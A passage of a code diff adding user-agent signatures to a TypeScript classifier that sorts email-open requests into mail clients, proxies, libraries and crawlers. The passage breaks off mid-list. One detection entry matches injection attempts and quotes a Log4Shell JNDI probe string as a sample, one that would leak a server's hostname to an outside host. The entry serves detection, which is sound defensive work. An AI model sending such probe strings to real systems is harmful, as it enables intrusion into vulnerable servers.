@@ -45,19 +45,50 @@ export interface UaSignature {
 }
 
 const CHECKED = '2026-11-27';
+/** Entries added for issue 14 from public fixture lists. */
+const CHECKED_DEC = '2026-12-07';
+/** matomo-org/device-detector, Tests/Parser/Client/fixtures (pim.yml, library.yml) and Tests/fixtures, read at c9d7028 (2025-08-24). */
+const DD = 'matomo-org/device-detector Tests/Parser/Client/fixtures';
+/** ua-parser/uap-core tests/test_ua.yaml, read at e3c5e63 (2026-08-11). */
+const UAP = 'ua-parser/uap-core tests/test_ua.yaml';
 
 export const UA_SIGNATURES: readonly UaSignature[] = [
   {
-    id: 'android-webview-mail',
-    // The "; wv)" token marks Android System WebView, which Android mail apps render HTML in.
-    pattern: String.raw`^Mozilla/5\.0 \(Linux; Android [^)]*; wv\) AppleWebKit/`,
+    id: 'airmail',
+    pattern: String.raw`^Airmail \d[\d.]* rv:\d+ \(Macintosh;`,
     role: 'mail-client',
-    client: { name: 'an Android mail app', os: 'Android', device: 'mobile' },
+    client: { name: 'Airmail' },
     examples: [
-      'Mozilla/5.0 (Linux; Android 13; SM-S911B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/119.0.6045.163 Mobile Safari/537.36',
+      'Airmail 1.4 rv:238 (Macintosh; Mac OS X 10.9.2; hr_HR)',
+      'Airmail 1.0 rv:148 (Macintosh; Mac OS X 10.8.3; en_BE)',
     ],
-    source: 'developer.chrome.com/docs/multidevice/user-agent ("wv" marks the Android WebView user-agent)',
-    checked: CHECKED,
+    source: `${DD} pim.yml; ${UAP} (Airmail)`,
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'apple-coremedia',
+    // Apple's media framework (AVFoundation) fetching for an app: audio and video, not a mail view.
+    pattern: String.raw`^AppleCoreMedia/\d`,
+    role: 'tool',
+    client: { name: 'Apple\'s media framework' },
+    examples: [
+      'AppleCoreMedia/1.0.0.15F80 (HomePod; U; CPU OS 11_4 like Mac OS X; fr_fr)',
+      'AppleCoreMedia/1.0.0.18J383 (Apple TV; U; CPU OS 14_0 like Mac OS X; en_us)',
+    ],
+    source: 'matomo-org/device-detector Tests/fixtures (client.type library: "iOS Application", AppleCoreMedia)',
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'apple-mail-cfnetwork',
+    // macOS Mail's own fetch through Apple's networking stack (CFNetwork), not a WebKit view.
+    pattern: String.raw`^Mail/\d+ CFNetwork/[\d.]+ Darwin/`,
+    role: 'mail-client',
+    client: { name: 'Apple Mail' },
+    examples: [
+      'Mail/1816 CFNetwork/673.0.3 Darwin/13.0.0 (x86_64) (Macmini5%2C1)',
+    ],
+    source: 'matomo-org/device-detector Tests/fixtures (client.type pim: Apple Mail, the native fetch of macOS Mail)',
+    checked: CHECKED_DEC,
   },
   {
     id: 'apple-mail-ios',
@@ -94,6 +125,18 @@ export const UA_SIGNATURES: readonly UaSignature[] = [
     checked: CHECKED,
   },
   {
+    id: 'barca',
+    pattern: String.raw`^Barca(?:Pro)?/\d`,
+    role: 'mail-client',
+    client: { name: 'Barca' },
+    examples: [
+      'Barca/2.8.4400',
+      'BarcaPro/1.4 L.1001',
+    ],
+    source: `${DD} pim.yml (Barca, Pocomail's successor)`,
+    checked: CHECKED_DEC,
+  },
+  {
     id: 'barracuda-sentinel',
     pattern: String.raw`^Barracuda Sentinel\b`,
     role: 'scanner',
@@ -104,6 +147,30 @@ export const UA_SIGNATURES: readonly UaSignature[] = [
     checked: CHECKED,
   },
   {
+    id: 'bluemail',
+    pattern: String.raw`\bBlueMail/\d`,
+    role: 'mail-client',
+    client: { name: 'BlueMail' },
+    examples: [
+      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) BlueMail/0.10.31 Chrome/61.0.3163.100 Electron/2.0.18 Safari/537.36',
+    ],
+    source: `${DD} pim.yml (BlueMail)`,
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'crawler-khtml-compatible',
+    // Crawlers that imitate Chrome put "compatible; <name>" inside the engine's comment; Chrome itself never does.
+    pattern: String.raw`\(KHTML, like Gecko; compatible; `,
+    role: 'tool',
+    client: { name: 'a crawler' },
+    examples: [
+      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; compatible; pageburst) Chrome/109.0.5414.101 Safari/537.36',
+      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Bluesky Cardyb/1.1; +mailto:support@bsky.app) Chrome/W.X.Y.Z Safari/537.36',
+    ],
+    source: 'developers.google.com/search/docs/crawling-indexing/overview-google-crawlers (Googlebot: "AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; …)"); omrilotan/isbot fixtures/crawlers.yml (pageburst); matomo-org/device-detector Tests/fixtures/bots.yml (Bluesky)',
+    checked: CHECKED_DEC,
+  },
+  {
     id: 'curl',
     pattern: String.raw`^curl/\d`,
     role: 'tool',
@@ -111,6 +178,30 @@ export const UA_SIGNATURES: readonly UaSignature[] = [
     examples: ['curl/8.5.0', 'curl/7.68.0'],
     source: 'curl.se docs (default user-agent "curl/VERSION")',
     checked: CHECKED,
+  },
+  {
+    id: 'dart',
+    pattern: String.raw`^Dart/\d[\d.]* \(dart:io\)`,
+    role: 'tool',
+    client: { name: 'a Dart program' },
+    examples: [
+      'Dart/2.16 (dart:io)',
+      'Dart/3.3 (dart:io)',
+    ],
+    source: `${DD} library.yml (Dart); api.dart.dev dart:io HttpClient.userAgent default "Dart/<version> (dart:io)"`,
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'em-client',
+    pattern: String.raw`\beM ?Client/\d`,
+    role: 'mail-client',
+    client: { name: 'eM Client' },
+    examples: [
+      'eMClient/9.3.6041.0',
+      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/55.0.2883.87 Safari/537.36 eM Client/8.2.1659.0',
+    ],
+    source: `${DD} pim.yml (eM Client: its native user-agent and its Chromium view)`,
+    checked: CHECKED_DEC,
   },
   {
     id: 'fastmail-proxy',
@@ -123,6 +214,29 @@ export const UA_SIGNATURES: readonly UaSignature[] = [
     examples: ['Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.5993.117 Safari/537.36 FastmailUA/1.0'],
     source: 'fastmail.com/policies/bots (image proxy user agent "… FastmailUA/1.0", fetched when the user opens the message); RESEARCH §7',
     checked: '2026-12-07',
+  },
+  {
+    id: 'foxmail',
+    pattern: String.raw`\bFoxmail/\d`,
+    role: 'mail-client',
+    client: { name: 'Foxmail' },
+    examples: [
+      'Mozilla/5.0 (Windows NT 6.2; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/101.0.4951.67 Safari/537.36 Foxmail/7.2.25.213',
+    ],
+    source: `${DD} pim.yml (Foxmail)`,
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'gmail-android-direct',
+    pattern: String.raw`^Android-Gmail/\d`,
+    role: 'mail-client',
+    // Not the proxy: the app fetching directly, from the phone's own network.
+    client: { name: 'Gmail' },
+    examples: [
+      'Android-Gmail/64562652 (sw411dp; 420dpi) (r7 TP1A.220624.014)',
+    ],
+    source: `${DD} pim.yml (Gmail for Android fetching itself, as for a non-Google account)`,
+    checked: CHECKED_DEC,
   },
   {
     id: 'gmail-prefetch',
@@ -168,6 +282,22 @@ export const UA_SIGNATURES: readonly UaSignature[] = [
     checked: CHECKED,
   },
   {
+    id: 'headless-engines',
+    // Engines that render pages for programs: none is a browser a person reads mail in. QtWebKit, which PhantomJS
+    // embeds, reports the platform "Unknown" when it has none (on a PC architecture: a server; TVs name an ARM one).
+    pattern: String.raw`\b(?:PhantomJS|SlimerJS|jsdom|HtmlUnit|Zombie\.js)/\d|^Mozilla/5\.0 \(Unknown; Linux (?:x86_64|i686)\) AppleWebKit/`,
+    role: 'tool',
+    client: { name: 'a headless browser' },
+    examples: [
+      'Mozilla/5.0 (X11; Linux x86_64; rv:21.0) Gecko/20100101 SlimerJS/0.7',
+      'Mozilla/5.0 (win32) AppleWebKit/537.36 (KHTML, like Gecko) jsdom/15.2.1',
+      'Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1',
+      'Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) HLB/1.247',
+    ],
+    source: `${DD} library.yml (SlimerJS, jsdom, PhantomJS, HtmlUnit); matomo-org/device-detector Tests/fixtures/bots.yml (a monitor on QtWebKit's "Unknown" platform, as PhantomJS reports it)`,
+    checked: CHECKED_DEC,
+  },
+  {
     id: 'hey-proxy',
     // HEY publishes no ranges for it (no `owners`): believed anywhere but rented servers and gateways (network.ts fromOperator).
     pattern: String.raw`^hey\.com/imageproxy `,
@@ -188,6 +318,91 @@ export const UA_SIGNATURES: readonly UaSignature[] = [
     checked: CHECKED,
   },
   {
+    id: 'kmail',
+    pattern: String.raw`\bkmail2?/\d`,
+    role: 'mail-client',
+    client: { name: 'KMail' },
+    examples: [
+      'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/534.34 (KHTML, like Gecko) kmail2/4.14.2 Safari/534.34',
+    ],
+    source: `${UAP} (kmail2)`,
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'library-package-version',
+    // A lone product whose version is stamped the way package builds stamp it (SemVer pre-release or build
+    // metadata, a Maven qualifier, a build number after it): what libraries and services send. Browsers and mail apps name a platform.
+    pattern: String.raw`^[A-Za-z][\w.-]*/v?\d+(?:\.\d+)+(?:[-+][\w.+-]+|\.(?:RELEASE|SNAPSHOT|Final|GA)\b| \d{5,})$`,
+    role: 'tool',
+    client: { name: 'a program library' },
+    examples: [
+      'Artifactory/7.21.5 72105900',
+      'ReactorNetty/0.9.10.RELEASE',
+      'containerd/1.5.11+azure-1',
+      'containerd/v1.4.13-k3s1',
+      'git-annex/10.20221105-g4c291fafb',
+      'kiwi-tcms/12.6.1-Enterprise',
+    ],
+    source: `${DD} library.yml; semver.org §9–10 (pre-release and build metadata after "-" and "+"); Maven version qualifiers (RELEASE, SNAPSHOT, Final, GA)`,
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'lotus-notes',
+    pattern: String.raw`\bLotus-Notes/\d`,
+    role: 'mail-client',
+    client: { name: 'Lotus Notes' },
+    examples: [
+      'Mozilla/4.0 (compatible; Lotus-Notes/6.0; Windows-NT)',
+    ],
+    source: `${DD} pim.yml; ${UAP} (Lotus Notes)`,
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'mailbar',
+    pattern: String.raw`^MailBar/\d`,
+    role: 'mail-client',
+    client: { name: 'MailBar' },
+    examples: [
+      'MailBar/1.3.2 (Mac OS X Version 10.11.1 (Build 15B42))',
+    ],
+    source: `${DD} pim.yml; ${UAP} (MailBar)`,
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'mailbird',
+    pattern: String.raw`\bMailbird/\d`,
+    role: 'mail-client',
+    client: { name: 'Mailbird' },
+    examples: [
+      'Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 Safari/537.36 Mailbird/2.4.30.0/',
+    ],
+    source: `${DD} pim.yml (Mailbird)`,
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'mailmaster',
+    pattern: String.raw`\bMailMaster(?:PC|_Android_Mobile)?/\d`,
+    role: 'mail-client',
+    client: { name: 'Mail Master' },
+    examples: [
+      'Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.110 MailMasterPC/4.15.6.1016 Safari/537.36',
+      'Mozilla/5.0 (iPhone; CPU iPhone OS 11_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15F79 MailMaster/6.5.3.1210',
+    ],
+    source: `${DD} pim.yml (NetEase Mail Master)`,
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'mailspring',
+    pattern: String.raw`\bMailspring/\d`,
+    role: 'mail-client',
+    client: { name: 'Mailspring' },
+    examples: [
+      'Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Mailspring/1.7.4 Chrome/69.0.3497.128 Electron/4.2.2 Safari/537.36',
+    ],
+    source: `${DD} pim.yml (Mailspring)`,
+    checked: CHECKED_DEC,
+  },
+  {
     id: 'ms-office-existence-discovery',
     // HEAD-style link check made by Office, not a rendering of the message.
     pattern: String.raw`^Microsoft Office Existence Discovery$`,
@@ -197,6 +412,17 @@ export const UA_SIGNATURES: readonly UaSignature[] = [
     examples: ['Microsoft Office Existence Discovery'],
     source: 'learn.microsoft.com (MSDN) "Microsoft Office Existence Discovery" requests; RESEARCH §1',
     checked: CHECKED,
+  },
+  {
+    id: 'naver-mail',
+    pattern: String.raw`^NaverMailApp/\d[\d.]* \(Android [\d.]+; [^;()]+\)$`,
+    role: 'mail-client',
+    client: { name: 'NAVER Mail', os: 'Android', device: 'mobile' },
+    examples: [
+      'NaverMailApp/2.2.2 (Android 10; SM-G986N)',
+    ],
+    source: `${DD} pim.yml (NAVER Mail)`,
+    checked: CHECKED_DEC,
   },
   {
     id: 'node-http',
@@ -217,23 +443,52 @@ export const UA_SIGNATURES: readonly UaSignature[] = [
     checked: CHECKED,
   },
   {
+    id: 'outlook-cfnetwork',
+    pattern: String.raw`^Outlook/[\d.]+ CFNetwork/[\d.]+ Darwin/`,
+    role: 'mail-client',
+    client: { name: 'Outlook' },
+    examples: [
+      'Outlook/16.16.18071205 CFNetwork/902.1 Darwin/17.7.0 (x86_64)',
+    ],
+    source: `${DD} pim.yml (Microsoft Outlook for Mac, its native fetch)`,
+    checked: CHECKED_DEC,
+  },
+  {
     id: 'outlook-desktop',
-    pattern: String.raw`^Microsoft Office/\d+\.\d+ \([^)]*Microsoft Outlook \d`,
+    pattern: String.raw`^Microsoft Office/\d+\.\d+ \([^)]*Microsoft (?:Office )?Outlook (?:Mail )?\d`,
     role: 'mail-client',
     client: { name: 'Outlook', os: 'Windows', device: 'desktop' },
     examples: [
       'Microsoft Office/16.0 (Microsoft Outlook 16.0.12329; Pro), Mozilla/4.0 (compatible; ms-office; MSOffice 16)',
       'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.4266; Pro)',
+      'Microsoft Office/16.0 (Microsoft Outlook Mail 16.0.6525; Pro)',
+      'Microsoft Office/12.0 (Windows NT 6.1; Microsoft Office Outlook 12.0.6739; Pro)',
     ],
     source: 'matomo-org/device-detector Tests/fixtures (mail clients: Outlook)',
     checked: CHECKED,
   },
   {
+    id: 'outlook-express',
+    pattern: String.raw`^(?:Outlook-Express/\d|WindowsMail/\d)`,
+    role: 'mail-client',
+    client: { name: 'Windows Mail' },
+    examples: [
+      'WindowsMail/17.5.9600.22013',
+      'Outlook-Express/7.0 (MSIE 7.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727; TmstmpExt)',
+    ],
+    source: `${DD} pim.yml (Windows Mail, Outlook Express); ${UAP} (Windows Live Mail sends Outlook-Express/7.0)`,
+    checked: CHECKED_DEC,
+  },
+  {
     id: 'outlook-ios',
-    pattern: String.raw`\bOutlook-iOS/\d`,
+    pattern: String.raw`\bOutlook-iOS(?:-Android)?/\d`,
     role: 'mail-client',
     client: { name: 'Outlook', os: 'iOS', device: 'mobile' },
-    examples: ['Outlook-iOS/2.0', 'Outlook-iOS/709.2189947.prod.iphone (3.24.0)'],
+    examples: [
+      'Outlook-iOS/2.0',
+      'Outlook-iOS/709.2189947.prod.iphone (3.24.0)',
+      'Mozilla/5.0 (iPhone; CPU iPhone OS 9_3_4 like Mac OS X) AppleWebKit/601.1 (KHTML, like Gecko) Outlook-iOS-Android/1.0 Mobile/13G35 Safari/601.1.46',
+    ],
     source: 'learn.microsoft.com "Securing Outlook for iOS and Android in Exchange Online" (UserAgent Outlook-iOS/2.0)',
     checked: CHECKED,
   },
@@ -247,6 +502,31 @@ export const UA_SIGNATURES: readonly UaSignature[] = [
     checked: CHECKED,
   },
   {
+    id: 'outlook-msie',
+    pattern: String.raw`^Mozilla/4\.0 \(compatible; (?:[^)]*; )?(?:Microsoft Outlook \d|ms-office; MSOffice \d|MSOffice \d+\))`,
+    role: 'mail-client',
+    client: { name: 'Outlook' },
+    examples: [
+      'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/6.0; Microsoft Outlook 15.0.4420)',
+      'Mozilla/4.0 (compatible; ms-office; MSOffice 16)',
+      'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; .NET CLR 1.1.4322; .NET CLR 2.0.50727; MSOffice 12)',
+    ],
+    source: `${UAP} (Outlook for Windows renders with Word/Internet Explorer and says ms-office, MSOffice or Microsoft Outlook)`,
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'postbox',
+    pattern: String.raw`(?:\bPostbox/\d|^Postbox \d)`,
+    role: 'mail-client',
+    client: { name: 'Postbox' },
+    examples: [
+      'Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10.6; en-US; rv:1.9.1.8) Gecko/20100317 Postbox/1.1.3',
+      'Postbox 1.0b14 (Windows/2009072715)',
+    ],
+    source: `${DD} pim.yml; ${UAP} (Postbox)`,
+    checked: CHECKED_DEC,
+  },
+  {
     id: 'python-http',
     pattern: String.raw`^(?:python-requests/\d|Python-urllib/\d|python-httpx/\d|Python/[\d.]+ aiohttp/\d)`,
     role: 'tool',
@@ -256,13 +536,100 @@ export const UA_SIGNATURES: readonly UaSignature[] = [
     checked: CHECKED,
   },
   {
+    id: 'runtime-library',
+    // A programming language's runtime named as the platform: a program, not a person's app.
+    pattern: String.raw`^[A-Za-z][\w.-]*/(?:PHP|Ruby|Python|Java|Go)/\d|/Python \d+\.\d+\.\d+ \(main, |\bgo/go\d+\.\d+`,
+    role: 'tool',
+    client: { name: 'a program library' },
+    examples: [
+      'tcms-api/12.9.1/Python 3.11.8 (main, Feb  7 2024, 04:02:05) [GCC 11.4.0]',
+      'IPinfoClient/PHP/3.1.2',
+      'IPinfoClient/Ruby/2.2.1',
+      'cri-o/1.16.1 go/go1.12.17 os/linux arch/amd64',
+    ],
+    source: `${DD} library.yml (Kiwi TCMS API, IPinfo, cri-o)`,
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'seamonkey',
+    pattern: String.raw`\b(?:SeaMonkey|Iceape)/\d`,
+    role: 'mail-client',
+    client: { name: 'SeaMonkey' },
+    examples: [
+      'Mozilla/5.0 (X11; Linux x86_64; rv:29.0) Gecko/20100101 Firefox/29.0 SeaMonkey/2.26a1 Lightning/3.1a1',
+      'Mozilla/5.0 (X11; Linux x86_64; rv:10.0.12) Gecko/20130823 Firefox/10.0.11esrpre Iceape/2.7.12',
+    ],
+    source: `${DD} pim.yml (SeaMonkey, Debian's Iceape: the Mozilla suite with its mail client)`,
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'spicebird',
+    pattern: String.raw`\bSpicebird/\d`,
+    role: 'mail-client',
+    client: { name: 'Spicebird' },
+    examples: [
+      'Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.9.0.2pre) Gecko/2009031304 Spicebird/0.7.1',
+    ],
+    source: `${DD} pim.yml (Spicebird)`,
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'superhuman',
+    pattern: String.raw`^Superhuman$`,
+    role: 'mail-client',
+    client: { name: 'Superhuman' },
+    examples: ['Superhuman'],
+    source: `${UAP} (Superhuman)`,
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'template-user-agent',
+    // Not a program's real name: a template left unfilled ("Gecko/geckotrail Firefox/firefoxversion") or code aimed
+    // at the server that logs it (a JNDI lookup; PHP's "<?php" and "<?=" open tags, php.net/manual/en/language.basic-syntax.phptags.php). No browser or mail app sends either.
+    pattern: String.raw`\b(?:Gecko|Firefox|Chrome|Safari|AppleWebKit)/[a-z]{4,}|\$\{jndi:|<\?(?:php\b|=)`,
+    role: 'tool',
+    client: { name: 'a script with a made-up user-agent' },
+    examples: [
+      'Mozilla/5.0 (platform; rv:geckoversion) Gecko/geckotrail Firefox/firefoxversion',
+      '${jndi:ldap://${hostName}.useragent.xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx.oast.pro}',
+    ],
+    source: 'matomo-org/device-detector Tests/fixtures/bots.yml (Generic Bot; Log4Shell probes, CVE-2021-44228, send "${jndi:…}" as the user-agent)',
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'the-bat',
+    pattern: String.raw`^The Bat! (?:Voyager )?\d`,
+    role: 'mail-client',
+    client: { name: 'The Bat!' },
+    examples: [
+      'The Bat! 4.0.0.22',
+      'The Bat! Voyager 4.0.18.4',
+    ],
+    source: `${DD} pim.yml; ${UAP} (The Bat!)`,
+    checked: CHECKED_DEC,
+  },
+  {
     id: 'thunderbird',
-    pattern: String.raw`\bThunderbird/\d`,
+    pattern: String.raw`\b(?:Thunderbird|Icedove)/\d`,
     role: 'mail-client',
     client: { name: 'Thunderbird', device: 'desktop' },
-    examples: ['Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Thunderbird/128.3.0', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Thunderbird/115.6.0'],
-    source: 'matomo-org/device-detector Tests/fixtures (mail clients: Thunderbird); RESEARCH §1',
+    examples: [
+      'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Thunderbird/128.3.0',
+      'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Thunderbird/115.6.0',
+      'Mozilla/5.0 (X11; Linux x86_64; rv:24.0) Gecko/20100101 Icedove/24.4.0',
+    ],
+    source: 'matomo-org/device-detector Tests/fixtures (mail clients: Thunderbird); ua-parser/uap-core tests/test_ua.yaml (Icedove, Debian\'s Thunderbird); RESEARCH §1',
     checked: CHECKED,
+  },
+  {
+    id: 'tracker-sdk',
+    // An analytics SDK reporting from inside an app: a library sending on its own.
+    pattern: String.raw`TrackerSDK/\d`,
+    role: 'tool',
+    client: { name: 'a program library' },
+    examples: ['Darwin/24.5.0 (Watch7,9; watchOS 11.4) MatomoTrackerSDK/7.7.0'],
+    source: `${DD} library.yml (MatomoTracker, Matomo's iOS SDK)`,
+    checked: CHECKED_DEC,
   },
   {
     id: 'wget',
@@ -274,6 +641,20 @@ export const UA_SIGNATURES: readonly UaSignature[] = [
     checked: CHECKED,
   },
   {
+    id: 'yahoo-mail-app',
+    // The apps fetching themselves (a message opened with the proxy off, or an app's own view): not the proxy.
+    pattern: String.raw`^Yahoo%20Mail/\d+ CFNetwork/[\d.]+ Darwin/[\d.]+$|^YahooMobileMail/\d[\d.]* \(Android Mail; [\d.]+\)|\bjp\.co\.yahoo\.ymail/\d`,
+    role: 'mail-client',
+    client: { name: 'Yahoo Mail' },
+    examples: [
+      'Yahoo%20Mail/49268 CFNetwork/1121.2.2 Darwin/19.3.0',
+      'YahooMobileMail/1.0 (Android Mail; 1.3.10) (supersonic;HTC;PC36100;2.3.5/GRJ90)',
+      'Mozilla/5.0 (iPhone; CPU iPhone OS 15_3_1 like Mac OS X) AppleWebKit/534.46 (KHTML, like Gecko) Mobile/9B176 YJApp-IOS jp.co.yahoo.ymail/7.4.1',
+    ],
+    source: `${DD} pim.yml (Yahoo Mail for iOS, its native fetch; Yahoo! Mail Japan); ${UAP} (YahooMobileMail)`,
+    checked: CHECKED_DEC,
+  },
+  {
     id: 'yahoo-proxy',
     pattern: String.raw`^YahooMailProxy\b`,
     role: 'proxy',
@@ -283,5 +664,123 @@ export const UA_SIGNATURES: readonly UaSignature[] = [
     examples: ['YahooMailProxy; https://help.yahoo.com/kb/yahoo-mail-proxy-SLN28749.html'],
     source: 'matomo-org/device-detector regexes/bots.yml; shared Yahoo/AOL proxy since 2018 (litmus.com/help "spike in Yahoo! Mail opens"); validity.com on Yahoo image caching',
     checked: CHECKED,
+  },
+];
+
+/**
+ * Parts of a user-agent that describe the device, not the program: a phone's
+ * model name, a TV's capability list, a feature phone's Java platform. isbot
+ * reads words, so a model called "M bot tab 10" or "Discovery 102C", a TV
+ * that says "CE-HTML/1.0" or a phone on "JavaPlatform" looks like a robot to
+ * it. The engine blanks these parts before asking isbot (and only then): the
+ * program's own tokens and comments are still read in full.
+ */
+export interface DeviceDescriptor {
+  id: string;
+  /** RegExp source, matched globally and case-insensitively; the match is replaced by `replacement`. */
+  pattern: string;
+  replacement: string;
+  /** Real user-agents whose descriptor isbot reads as a robot. */
+  examples: readonly string[];
+  source: string;
+  checked: string;
+}
+
+export const DEVICE_DESCRIPTORS: readonly DeviceDescriptor[] = [
+  {
+    id: 'android-model',
+    // "(Linux; [U; ]Android 7.0; [es-es; ]<model>[ Build/<id>][; wv])": the slot after the version (and locale) is the model.
+    pattern: String.raw`(?<=\bAndroid[ /]?[\d.]*; (?:[a-z]{2}[-_][a-z]{2,4}; )?)[^;)]+`,
+    replacement: 'model',
+    examples: [
+      'Mozilla/5.0 (Linux; Android 7.1.2; M bot tab 10) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36',
+      'Mozilla/5.0 (Linux; Android 5.1.1; Discovery 1000c Build/LMY47V) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/39.0.0.0 Safari/537.36',
+      'Mozilla/5.0 (Linux; Android 8.1.0; Newsday_A1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/76.0.3809.89 Mobile Safari/537.36',
+      'Mozilla/5.0 (Linux; U; Android 4.2.2; it-it; S222 Build/CUBOT) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30',
+    ],
+    source: 'developer.chrome.com/docs/multidevice/user-agent (Android: "(Linux; Android <version>; <device model>)"); device models from matomo-org/device-detector Tests/fixtures (smartphone, tablet)',
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'hbbtv',
+    // "HbbTV/1.1.1 (<capabilities>; <vendor>; <model>; <software version>; <hardware version>; <family>; <reserved>)"
+    pattern: String.raw`\bHbbTV/[\d.]+ \([^()]*\)`,
+    replacement: 'HbbTV',
+    examples: [
+      'Opera/9.80 (Linux mips; U; HbbTV/1.1.1 (; Humax; iCord HD+; 1.0.0; 1.0.0; ); ce-html/1.0; en) Presto/2.10.250 Version/11.60',
+    ],
+    source: 'ETSI TS 102 796 (HbbTV) §7.3.2.4, the user-agent\'s device part; examples from matomo-org/device-detector Tests/fixtures/tv*.yml',
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'security-token-comment',
+    // "(webOS/1.0; U; en-US)", "(SAMSUNG; SAMSUNG-GT-S7230-VODAFONE/1.0; U; Bada/1.0; en-us)": a comment carrying the
+    // encryption-strength token U (or I, N) describes the platform, and its "name/1.0;" items are an OS or a model.
+    // Only those items are blanked: a crawler's words or address in the same comment are still read.
+    pattern: String.raw`(?<=\((?:[^()]*;)?\s*[UIN];[^()]*?)[\w.-]+/[\d.]+(?=;[^()]*\))|[\w.-]+/[\d.]+(?=;(?:[^()]*;)?\s*[UIN];[^()]*\))`,
+    replacement: 'platform',
+    examples: [
+      'Mozilla/5.0 (webOS/1.0; U; en-US) AppleWebKit/525.27.1 (KHTML, like Gecko) Version/1.0 Safari/525.27.1 Pre/1.0',
+      'Mozilla/5.0 (SAMSUNG; SAMSUNG-GT-S7230-VODAFONE/1.0; U; Bada/1.0; en-us) OperaMini/5.0.21073 Mobile WVGA SMM-MMS/1.2.0 NexPlayer',
+      'Mozilla/5.0 (Sonim-XP3400/E343B_2100B00_N1900;U;REX/1.0;BREW/3.1.5;240*320;CTC/2.0) POLARIS/6.2',
+    ],
+    source: 'developer.mozilla.org "User-Agent" (Gecko/Netscape platform comment) and RFC 1945 §3.7 comments; the security token: Netscape client user-agent convention (U: strong, I: weak, N: none); examples from matomo-org/device-detector Tests/fixtures',
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'msie-post-platform',
+    // Internet Explorer lists software installed on the machine after the Windows version ("post-platform" tokens:
+    // .NET CLR 2.0.50727, chromeframe/19.0, QQDownload 691). Only "name/version" and "name number" items are blanked.
+    pattern: String.raw`(?<=\(compatible; MSIE [\d.]+;[^()]*\bWindows NT [\d.]+;[^()]*?)\s*[A-Za-z][\w.-]*(?:/[\d.]+| \d+)(?=\s*[;)])`,
+    replacement: ' addon',
+    examples: [
+      'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0; chromeframe/19.0.1084.52)',
+      'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/4.0; QQDownload 691; SLCC2; .NET CLR 2.0.50727; .NET CLR 3.5.30729; .NET CLR 3.0.30729; MALC)',
+    ],
+    source: 'learn.microsoft.com "Understanding user-agent strings" (Internet Explorer: platform token, then tokens added by installed software under the Post Platform registry key); examples from matomo-org/device-detector Tests/fixtures/desktop.yml',
+    checked: CHECKED_DEC,
+  },
+  {
+    id: 'mtk-maui',
+    // MediaTek feature phones' MAUI browser states its capabilities in brackets: "MAUI(HTTP PGDL;HTTPS)", "MAUI ()".
+    pattern: String.raw`\bMAUI ?\([^()]*\)`,
+    replacement: 'MAUI',
+    examples: [
+      'FLY_E141TV_PLUS/ WAP Browser/MAUI(HTTP PGDL;HTTPS)Profile/Q03C1-2.40 ru-RU',
